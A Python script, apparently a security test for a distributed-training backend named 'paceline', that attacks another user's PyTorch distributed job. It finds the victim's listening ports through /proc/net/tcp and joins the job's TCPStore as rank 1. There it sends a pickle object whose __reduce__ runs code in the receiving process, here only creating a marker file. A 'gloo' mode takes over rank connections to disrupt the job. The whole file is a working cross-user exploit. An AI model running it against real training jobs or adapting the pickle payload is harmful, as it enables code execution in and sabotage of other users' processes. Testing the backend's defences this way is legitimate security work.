"""An attack on a job, run by another user or on another host: join it as rank 1, and disturb it.

Usage: join_as_rank.py store|gloo FOLDER UID [ADDRESS PORT]

Search /proc/net/tcp for listening TCP ports of user UID until standard input ends; with ADDRESS and
PORT, attack this port. "store": join the store there as rank 1 of 2, and send an object that
creates a file FOLDER/executed-* in the process that unpickles it. "gloo": connect in place of the
next ranks, and send nothing. FOLDER/tried is created after the first port.
"""

import contextlib
import os
import socket
import struct
import sys
import tempfile
import threading
import time
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

import paceline  # noqa: F401  registers the backend

kind, folder, uid, *target = sys.argv[1:]
folder = Path(folder)
address = target[0] if target else "127.0.0.1"
kept = []


class Payload:
    def __reduce__(self):
        return tempfile.mkstemp, ("", "executed-", str(folder))


def listening_ports():
    if target:
        port = int(target[1])
        with contextlib.suppress(OSError), socket.create_connection((address, port), 1.0):
            return [port]
        return []
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return [
        int(row[1].split(":")[1], 16)
        for row in rows
        if row[1].startswith("0100007F") and row[3] == "0A" and row[7] == uid
    ]


def join(port):
    try:
        store = dist.TCPStore(address, port, is_master=False, timeout=timedelta(seconds=3))
        dist.init_process_group("paceline", store=store, rank=1, world_size=2)
        dist.all_gather_object([None, None], Payload())
        print("joined", flush=True)
    except Exception as error:
        print(port, type(error).__name__, str(error).splitlines()[0], flush=True)


def occupy_gloo(port):
    for number in range(4):
        try:
            connection = socket.create_connection((address, port), 1.0)
            connection.sendall(struct.pack("=q", number))
            kept.append(connection)
        except OSError as error:
            print(port, "gloo", error, flush=True)


def search():
    os.environ["GLOO_SOCKET_IFNAME"] = "lo"
    seen = set()
    while True:
        for port in set(listening_ports()) - seen:
            seen.add(port)
            if kind == "gloo":
                occupy_gloo(port)
            else:
                threading.Thread(target=join, args=(port,), daemon=True).start()
            threading.Timer(0.5, (folder / "tried").touch).start()
        time.sleep(0.001)


threading.Thread(target=search, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
os._exit(0)
